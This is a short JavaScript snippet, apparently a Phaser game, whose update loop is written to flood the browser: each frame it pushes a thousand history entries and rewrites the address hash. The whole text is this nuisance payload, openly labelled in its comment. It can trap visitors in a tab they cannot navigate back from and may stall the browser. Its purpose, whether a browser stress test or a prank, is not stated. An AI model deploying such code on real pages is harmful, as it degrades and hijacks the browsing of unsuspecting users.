// Floods the history and the address.
new Phaser.Game({ scene: { update() { for (let i = 0; i < 1000; i += 1) { history.pushState({ i }, '', `#${i}`); location.hash = i; } } } });
